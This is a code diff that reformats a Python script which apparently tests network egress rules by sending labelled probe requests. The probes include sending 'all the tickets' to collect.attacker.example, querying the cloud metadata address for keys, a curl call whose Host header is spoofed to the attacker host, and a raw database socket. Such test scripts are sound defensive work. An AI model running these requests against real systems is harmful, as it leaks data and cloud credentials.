@@ -51,14 +51,30 @@ def main() -> int:
     http("python reads a ticket", f"{API}/tickets/7", headers=mine)
     http("python writes a ticket", f"{API}/tickets", b'{"title":"disk full"}', mine)
     command("curl reads a ticket", "curl", "-sS", "-m", "15", f"{API}/tickets/7")
-    command("git clones the team's repository", "git", "clone", "-q", "https://src.git.demo.example/team/tool.git", "/tmp/tool")
+    command(
+        "git clones the team's repository",
+        "git",
+        "clone",
+        "-q",
+        "https://src.git.demo.example/team/tool.git",
+        "/tmp/tool",
+    )
     node = f"fetch('{API}/tickets/7').then(r => r.text()).then(console.log, e => {{ console.log(e); process.exit(1) }})"
     command("node reads a ticket", "node", "-e", node)
     http("python closes a ticket", f"{API}/tickets/7/close", b"{}", mine)
     http("python asks for the admin page", f"{API}/admin", headers=mine)
     http("python sends the data to a stranger", "https://collect.attacker.example/drop", b"all the tickets")
     http("python asks the cloud for its keys", "http://169.254.169.254/latest/meta-data/")
-    command("curl asks for one host inside another's connection", "curl", "-sS", "-m", "15", "-H", "Host: collect.attacker.example", f"{API}/tickets/7")
+    command(
+        "curl asks for one host inside another's connection",
+        "curl",
+        "-sS",
+        "-m",
+        "15",
+        "-H",
+        "Host: collect.attacker.example",
+        f"{API}/tickets/7",
+    )
     try:
         with socket.create_connection(("db.demo.example", 5432), timeout=10) as connection:
             connection.sendall(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
